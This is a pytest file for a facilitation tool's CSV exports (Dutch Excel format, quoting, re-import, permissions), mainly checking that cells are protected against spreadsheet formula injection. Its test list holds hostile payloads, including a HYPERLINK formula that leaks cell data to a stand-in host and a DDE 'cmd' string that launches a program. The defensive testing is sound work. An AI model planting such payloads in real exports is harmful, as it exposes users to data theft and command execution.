"""CSV exports: safe against formula injection, UTF-8 with BOM and ';' for Dutch Excel, quoted, importable again."""

import csv
import io

import pytest

from facilitator.core import model as m
from facilitator.io.csv_export import csv_bytes, safe_cell, write_participants_csv, write_seating_csv
from facilitator.io.participant_import import preview
from facilitator.io.seating_snapshot import NothingToExport, load_seating
from facilitator.store.document import SessionDocument

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Klik\")", "+1", "-1", "@SUM(A1:A9)", "\t=1", "\r=1",
           "=1+2;3", "-2+3+cmd|' /C calc'!A0"]


def _read(path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline=""), delimiter=";"))


@pytest.mark.parametrize("value", HOSTILE)
def test_cells_that_start_a_formula_get_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Gerrit", "van den", "", "1", "a=b", " =1", "Zoë Çelik", "'quoted", "50+"])
def test_ordinary_cells_are_left_alone(value):
    assert safe_cell(value) == value


def test_csv_bytes_quote_every_cell_and_round_trip_through_the_csv_module():
    rows = [["Naam", "Opmerking"], ["Anna; Bouzid", 'zegt "hoi"'], ["regel\neen", "=1"], *[[v, v] for v in HOSTILE]]
    data = csv_bytes(rows)
    assert data.startswith(b"\xef\xbb\xbf\"Naam\";\"Opmerking\"\r\n")
    back = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert back[1] == ["Anna; Bouzid", 'zegt "hoi"']
    assert back[2] == ["regel\neen", "'=1"]
    for row, value in zip(back[3:], HOSTILE):
        assert row == ["'" + value, "'" + value]
    for row in back:  # nothing a spreadsheet would run
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.fixture
def doc(tmp_path):
    document = SessionDocument.create(tmp_path / "s.facilitator", m.Meeting("Burgerberaad"))
    host, gerrit, evil, zoe = document.add(
        m.Participant("Marloes", "Verbeek", role=m.Role.TABLE_HOST, attendance=m.Attendance.PRESENT),
        m.Participant("Gerrit", "Berg", infix="van den", attributes={"gender": "man", "age": "67", "age_band": "65+",
                      "district": "Noord", "Beroep": "bakker"}, needs=["rolstoel", "ringleiding"],
                      external_ref="12", contact="gerrit@voorbeeld.nl", attendance=m.Attendance.PRESENT),
        m.Participant("=HYPERLINK(\"http://x\")", "@SUM(1)", infix="-1", attributes={"gender": "+vrouw"},
                      external_ref="13"),
        m.Participant("Zoë", "Çelik", attributes={"gender": "vrouw", "age": "34", "district": "Zuid"},
                      attendance=m.Attendance.WALK_IN, external_ref="14"),
    )
    t1, t2 = document.add(m.Table("Tafel 1", host_id=host.id), m.Table("=Tafel 2", position=1))
    r1, r2 = document.add(m.TableRound(1), m.TableRound(2))
    document.add(m.SeatAssignment(r1.id, host.id, t1.id), m.SeatAssignment(r1.id, zoe.id, t1.id),
                 m.SeatAssignment(r1.id, gerrit.id, t1.id), m.SeatAssignment(r1.id, evil.id, t2.id),
                 m.SeatAssignment(r2.id, gerrit.id, t2.id), m.SeatAssignment(r2.id, host.id, t1.id))
    yield document
    document.close()


def test_seating_csv(doc, tmp_path):
    rows = _read(write_seating_csv(load_seating(doc), tmp_path / "indeling.csv"))
    assert rows == [
        ["Ronde", "Tafel", "Voornaam", "Tussenvoegsel", "Achternaam", "Rol"],
        ["1", "Tafel 1", "Gerrit", "van den", "Berg", "deelnemer"],
        ["1", "Tafel 1", "Zoë", "", "Çelik", "deelnemer"],
        ["1", "Tafel 1", "Marloes", "", "Verbeek", "tafelbegeleider"],
        ["1", "'=Tafel 2", "'=HYPERLINK(\"http://x\")", "'-1", "'@SUM(1)", "deelnemer"],
        ["2", "Tafel 1", "Marloes", "", "Verbeek", "tafelbegeleider"],
        ["2", "'=Tafel 2", "Gerrit", "van den", "Berg", "deelnemer"],
    ]
    raw = (tmp_path / "indeling.csv").read_bytes()
    assert b"\r\n" in raw and raw.count(b'"') % 2 == 0


def test_participant_csv_columns_and_values(doc, tmp_path):
    rows = _read(write_participants_csv(load_seating(doc), tmp_path / "deelnemers.csv"))
    assert rows[0] == ["Nr", "Voornaam", "Tussenvoegsel", "Achternaam", "Rol", "Aanwezigheid", "Geslacht", "Leeftijd",
                       "Wijk", "Beroep", "Bijzonderheden", "E-mail"]  # age_band left out: the import derives it
    assert rows[1] == ["13", "'=HYPERLINK(\"http://x\")", "'-1", "'@SUM(1)", "deelnemer", "uitgenodigd", "'+vrouw",
                       "", "", "", "", ""]
    assert rows[2] == ["12", "Gerrit", "van den", "Berg", "deelnemer", "aanwezig", "man", "67", "Noord", "bakker",
                       "rolstoel, ringleiding", "gerrit@voorbeeld.nl"]
    assert [r[3] for r in rows[1:]] == ["'@SUM(1)", "Berg", "Çelik", "Verbeek"]  # Ç sorts as C


def test_participant_csv_in_english(doc, tmp_path):
    meeting = doc.meeting()
    meeting.language = "en"
    doc.update(meeting)
    rows = _read(write_participants_csv(load_seating(doc), tmp_path / "p.csv"))
    assert rows[0][:6] == ["Number", "First name", "Infix", "Last name", "Role", "Attendance"]
    assert rows[3][4:6] == ["participant", "walk-in"]
    seating = _read(write_seating_csv(load_seating(doc), tmp_path / "s.csv"))
    assert seating[0] == ["Round", "Table", "First name", "Infix", "Last name", "Role"]
    assert seating[3][-1] == "table host"


def test_the_participant_list_can_be_imported_again(doc, tmp_path):
    path = write_participants_csv(load_seating(doc), tmp_path / "deelnemers.csv")
    report = preview(path)
    assert (report.grid.encoding, report.grid.separator) == ("utf-8-sig", ";")
    people = {r.person.external_ref: r.person for r in report.rows}
    gerrit = people["12"]
    assert (gerrit.first_name, gerrit.infix, gerrit.last_name) == ("Gerrit", "van den", "Berg")
    assert {k: gerrit.attributes[k] for k in ("gender", "age", "age_band", "district")} == {
        "gender": "man", "age": "67", "age_band": "65+", "district": "Noord"}
    assert gerrit.needs == ["rolstoel", "ringleiding"] and gerrit.contact == "gerrit@voorbeeld.nl"
    assert people["14"].last_name == "Çelik"


def test_nothing_to_export(tmp_path):
    with SessionDocument.create(tmp_path / "e.facilitator", m.Meeting("Leeg")) as empty:
        with pytest.raises(NothingToExport) as caught:
            write_participants_csv(load_seating(empty), tmp_path / "p.csv")
        assert caught.value.reason == "no_people"
        with pytest.raises(NothingToExport) as caught:
            write_seating_csv(load_seating(empty), tmp_path / "s.csv")
        assert caught.value.reason == "no_tables"
    assert list(tmp_path.glob("*.csv")) == []


def test_an_exported_file_gets_ordinary_permissions_not_private_ones(tmp_path):
    import os
    import stat

    from facilitator.io.atomic_file import write_atomically

    target = tmp_path / "deelnemers.csv"
    write_atomically(target, "a;b\n")
    umask = os.umask(0o022)
    os.umask(umask)
    assert stat.S_IMODE(target.stat().st_mode) == 0o666 & ~umask
    target.chmod(0o640)
    write_atomically(target, "c;d\n")  # an existing file keeps its own
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
